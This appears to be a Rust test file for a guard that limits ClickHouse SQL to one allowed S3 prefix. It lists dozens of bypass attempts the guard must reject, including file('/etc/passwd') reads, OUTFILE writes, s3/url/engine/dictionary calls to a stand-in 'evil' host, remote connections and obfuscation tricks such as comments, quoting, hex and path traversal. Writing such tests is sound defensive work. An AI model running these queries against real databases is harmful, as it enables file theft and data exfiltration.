//! Attempts to get past the guard, and ordinary SQL that it must let through.

use super::*;

fn check(sql: &str) -> Verdict {
    let guard = Guard::new(&["http://127.0.0.1:9000/lake".to_owned()]).unwrap();
    guard.check(&Script::new(sql.as_bytes()))
}

const ATTEMPTS: &[&str] = &[
    "SELECT * FROM file('/etc/passwd')",
    "select * from FiLe ('/etc/passwd')",
    "SELECT * FROM file/* x */('/etc/passwd')",
    "SELECT * FROM file -- x\n ('/etc/passwd')",
    "SELECT * FROM file\u{a0}('/etc/passwd')",
    "SELECT * FROM file # x\n('/etc/passwd')",
    "SELECT * FROM /* '*/ file('/etc/passwd') -- '",
    "SELECT '\\'', * FROM file('/etc/passwd') --'",
    "SELECT $$ ' $$, * FROM file('/etc/passwd') --'",
    "SELECT * FROM `file`('/etc/passwd')",
    "SELECT * FROM \"file\"('/etc/passwd')",
    "SELECT * FROM “file”('/etc/passwd')",
    "SELECT * FROM `f\\x69le`('/etc/passwd')",
    "SELECT (SELECT file('/etc/passwd'))",
    "SELECT * FROM (SELECT * FROM (SELECT * FROM url('http://x/', CSV)))",
    "CREATE VIEW v AS SELECT * FROM url('http://x/', CSV)",
    "CREATE TABLE t AS file('/etc/passwd')",
    "INSERT INTO FUNCTION file('/tmp/x') SELECT 1",
    "INSERT INTO TABLE FUNCTION url('http://x/') SELECT 1",
    "DESCRIBE TABLE file('/etc/passwd')",
    "SELECT * FROM eval('SELECT 1')",
    "ATTACH TABLE t FROM '/any' (a Int8) ENGINE = MergeTree ORDER BY a",
    "ATTACH TABLE t FROM $$/any$$ (a Int8) ENGINE = MergeTree ORDER BY a",
    "DROP TABLE IF EXISTS x PARALLEL WITH ATTACH TABLE t FROM '/any' (a Int8) ENGINE = MergeTree ORDER BY a",
    "CREATE DICTIONARY d (a Int8) PRIMARY KEY a SOURCE(CLICKHOUSE(QUERY 'SELECT 1')) LAYOUT(FLAT())",
    "SELECT * FROM s3(`http://evil/x`)",
    "SELECT 1 INTO /* x */ OUTFILE '/tmp/x'",
    "INSERT INTO t FROM INFILE '/etc/passwd' FORMAT CSV",
    "CREATE TABLE t (a Int8) ENGINE = File(CSV)",
    "CREATE TABLE t (a Int8) ENGINE File(CSV)",
    "CREATE TABLE t (a Int8) ENGINE = URL('http://x', CSV)",
    "CREATE TABLE t (a Int8) ENGINE /**/ = /**/ `ExecutablePool`('x', CSV)",
    "CREATE DATABASE d ENGINE = Filesystem",
    "CREATE DATABASE d ENGINE = MySQL('h', 'd', 'u', 'p')",
    "CREATE DATABASE d ENGINE = DataLakeCatalog('http://x')",
    "DROP TABLE IF EXISTS x PARALLEL WITH CREATE TABLE t (a Int8) ENGINE = SQLite('/x', 'y')",
    "SELECT * FROM remote('10.0.0.1', d.t)",
    "SELECT * FROM remoteSecure('10.0.0.1', d.t)",
    "SELECT * FROM mysql('h', 'd', 't', 'u', 'p')",
    "SELECT * FROM cluster('c', file('/etc/passwd'))",
    "SELECT * FROM s3('http://evil/lake/x')",
    "SELECT * FROM s3('http://127.0.0.1:9000/lake@evil/x')",
    "SELECT * FROM s3('http://127.0.0.1:9000/lakes/x')",
    "SELECT * FROM s3('http://127.0.0.1:9000/lake/../other/x')",
    "SELECT * FROM s3('http://127.0.0.1:9000/lake/%2e%2e/other/x')",
    "SELECT * FROM s3('http:\\x2f/evil/')",
    "SELECT * FROM s3(concat('http://127.0.0.1:9000/lake/', 'x'))",
    "SELECT * FROM s3('http://127.0.0.1:9000/lake/' || 'x')",
    "SELECT * FROM s3({u:String})",
    "SELECT * FROM s3(x'687474703a2f2f')",
    "SELECT * FROM s3(lake, url='http://evil/')",
    "SELECT * FROM s3(lake, filename='x', /**/ `url` = 'http://evil/')",
    "SELECT * FROM s3(lake, url=concat('http://', 'evil'))",
    "SELECT * FROM s3(lake, filename='../../x')",
    "SELECT * FROM s3Cluster('c', 'http://evil/x')",
    "SELECT * FROM gcs('http://evil/x')",
    "SELECT * FROM iceberg('http://evil/x')",
    "CREATE TABLE t (a Int8) ENGINE = S3('http://evil/x', CSV)",
    "CREATE NAMED COLLECTION c AS url = 'http://evil/'",
    "CREATE NAMED COLLECTION c AS url = $$http://evil/$$",
    "ALTER NAMED COLLECTION lake SET url = 'http://evil/'",
    "CREATE NAMED COLLECTION c AS host = 'evil'",
    "CREATE DICTIONARY d (a UInt64) PRIMARY KEY a SOURCE(FILE(path '/x' format 'CSV')) LAYOUT(FLAT()) LIFETIME(0)",
    "CREATE DICTIONARY d (a UInt64) PRIMARY KEY a SOURCE(HTTP(url 'http://x')) LAYOUT(FLAT()) LIFETIME(0)",
    "CREATE DICTIONARY d (a UInt64) PRIMARY KEY a SOURCE(CLICKHOUSE(HOST 'evil' TABLE 't')) LAYOUT(FLAT())",
    "CREATE TABLE t (a Int8) ENGINE=MergeTree ORDER BY a SETTINGS disk = disk(type=local, path='/x/')",
    "CREATE TABLE t (a Int8) ENGINE=MergeTree ORDER BY a SETTINGS disk = disk(type=s3, endpoint='http://evil/')",
    "ATTACH TABLE t FROM '/x' (a Int8) ENGINE = MergeTree ORDER BY a",
    "SYSTEM /**/ SHUTDOWN",
    "SELECT 'unfinished",
];

#[test]
fn refuses_what_reaches_outside() {
    for sql in ATTEMPTS {
        assert!(check(sql).is_err(), "let through: {sql}");
    }
}

#[test]
fn lets_ordinary_sql_through() {
    let ordinary = [
        "SELECT 'file(''x'')', \"url\" FROM t -- file('x')",
        "SELECT file, url, engine FROM system.tables WHERE engine = 'File' /* url('x') */",
        "INSERT INTO t (file, url) VALUES",
        "SELECT * FROM numbers(10), s3('http://127.0.0.1:9000/lake/raw/{a,b}/*.parquet', 'k', 's', 'Parquet')",
        "SELECT * FROM s3(lake, filename = 'raw/**/x.parquet', format = 'Parquet')",
        "SELECT * FROM s3(lake)",
        "SELECT * FROM s3Cluster('default', lake, filename='x')",
        "INSERT INTO FUNCTION s3(lake, filename='x.parquet') SELECT 1",
        "CREATE TABLE t (a Int8) ENGINE = ReplacingMergeTree(a) ORDER BY a",
        "CREATE TABLE t (engine String, disk String) ENGINE = Memory",
        "CREATE TABLE t (a Int8) ENGINE = IcebergS3(lake, filename='i/')",
        "CREATE NAMED COLLECTION lake AS url = 'http://127.0.0.1:9000/lake/', access_key_id = 'k'",
        "DROP NAMED COLLECTION lake",
        "CREATE DICTIONARY d (a UInt64) PRIMARY KEY a SOURCE(CLICKHOUSE(user 'default' table 't')) LAYOUT(FLAT())",
        "CREATE TABLE t (a Int8) ENGINE=MergeTree ORDER BY a \
         SETTINGS disk = disk(type=s3, endpoint='http://127.0.0.1:9000/lake/d/', access_key_id='k')",
        "CREATE MATERIALIZED VIEW v TO t AS SELECT * FROM system.tables",
        "SYSTEM FLUSH LOGS",
    ];
    for sql in ordinary {
        assert_eq!(check(sql), Ok(()), "{sql}");
    }
}

#[test]
fn prefixes_must_be_urls() {
    assert!(Guard::new(&["lake".to_owned()]).is_err());
    assert!(Guard::new(&["http://h:9000/lake".to_owned()]).is_ok());
}
